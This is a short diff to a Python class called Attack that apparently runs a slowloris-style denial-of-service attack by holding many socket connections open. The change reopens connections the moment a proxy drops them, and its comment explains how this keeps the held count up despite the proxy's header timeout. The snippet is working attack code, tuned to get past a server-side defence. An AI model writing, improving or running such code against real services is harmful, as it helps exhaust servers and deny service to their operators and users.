@@ -91,6 +91,11 @@ class Attack(threading.Thread):
                     self.closed_by_server += 1
                     sock.close()
                     slots[number] = None
+            # Reopened at once, before counting: the proxy drops the connections of one burst together
+            # (its header timeout), and a probe reading the count in between saw none held.
+            for number, slot in enumerate(slots):
+                if slot is None and not self.stop.is_set():
+                    slots[number] = self._open(number)
             self.open_now = sum(slot is not None for slot in slots)
             self.stop.wait(0.2)
         for slot in slots:
